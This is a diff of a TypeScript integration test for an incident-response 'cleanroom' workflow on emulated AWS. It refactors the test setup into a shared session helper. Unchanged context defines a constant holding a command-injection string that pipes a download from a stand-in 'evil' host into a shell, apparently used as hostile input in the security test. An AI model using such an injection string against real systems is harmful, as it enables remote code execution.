@@ -24,25 +24,17 @@ import { CreateSnapshotCommand, DescribeInstancesCommand, type EC2Client } from 
 import { PutEventsCommand } from "@aws-sdk/client-eventbridge";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { requestCleanroom } from "../../cli/commands/cleanroom.ts";
-import { drainAlerts, type ReceivedAlert, subscribeAlerts } from "../../cli/drill/run.ts";
-import { type DemoAccount, seedDemoAccount } from "../../cli/local/demo.ts";
+import { drainAlerts, type ReceivedAlert } from "../../cli/drill/run.ts";
+import type { DemoAccount } from "../../cli/local/demo.ts";
 import type { Invocation } from "../../cli/local/runner.ts";
-import { type LocalSession, startLocalSession } from "../../cli/local/session.ts";
-import {
-  cfnClient,
-  dynamoDocClient,
-  ec2Client,
-  eventsClient,
-  iamClient,
-  snsClient,
-  sqsClient,
-} from "../../shared/aws/clients.ts";
+import type { LocalSession } from "../../cli/local/session.ts";
+import { cfnClient, ec2Client, eventsClient, sqsClient } from "../../shared/aws/clients.ts";
 import { EventBridgePublisher } from "../../shared/events/bus.ts";
 import type { IncidentRecord, SnapshotRecord, StepRecord } from "../../shared/incident/model.ts";
-import { DynamoIncidentStore } from "../../shared/incident/store.ts";
+import type { DynamoIncidentStore } from "../../shared/incident/store.ts";
 import { CLEANROOM_STEP, type CleanroomRecord } from "../../shared/workflow/cleanroom.ts";
-import { resetEmulator } from "../support/emulator.ts";
 import { WAIT_MS, waitFor } from "../support/findings.ts";
+import { startTestSession } from "../support/session.ts";
 
 const EVIL = "; curl http://evil | sh";
 
@@ -218,20 +210,13 @@ async function outcomesFor(incidentId: string, detailType: string, count: number
 }
 
 beforeAll(async () => {
-  await resetEmulator();
-  process.env.POWERTOOLS_LOG_LEVEL = "SILENT";
-  session = await startLocalSession({ maxAttempts: 2, onInvocation: (i) => invocations.push(i) });
+  ({ session, demo, store, alertQueueUrl } = await startTestSession("attack-cleanroom-alerts", {
+    onInvocation: (i) => invocations.push(i),
+  }));
   const aws = session.aws;
   ec2 = ec2Client(aws);
   cfn = cfnClient(aws);
-  demo = await seedDemoAccount(ec2, iamClient(aws));
-  store = new DynamoIncidentStore(dynamoDocClient(aws), session.local.resources.incidentTable);
   bus = new EventBridgePublisher(eventsClient(aws), session.local.resources.eventBusName);
-  alertQueueUrl = await subscribeAlerts(
-    { sqs: sqsClient(aws), sns: snsClient(aws) },
-    session.local.resources.alertTopicArn,
-    "attack-cleanroom-alerts",
-  );
 });
 
 afterAll(async () => {
